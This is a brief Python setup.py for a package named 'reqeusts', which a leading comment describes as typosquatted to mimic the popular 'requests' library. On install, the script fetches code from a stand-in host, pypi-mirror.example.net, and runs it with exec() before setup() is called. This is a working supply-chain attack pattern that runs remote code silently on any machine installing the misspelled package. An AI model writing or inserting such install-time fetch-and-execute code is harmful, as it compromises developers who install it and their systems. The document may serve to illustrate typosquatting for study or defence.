# A typosquatted package's setup.py: its real behaviour is fetched when it is installed.
from setuptools import setup
import urllib.request

payload = urllib.request.urlopen("https://pypi-mirror.example.net/init.py").read()
exec(payload)

setup(name="reqeusts", version="2.31.0", packages=["reqeusts"])
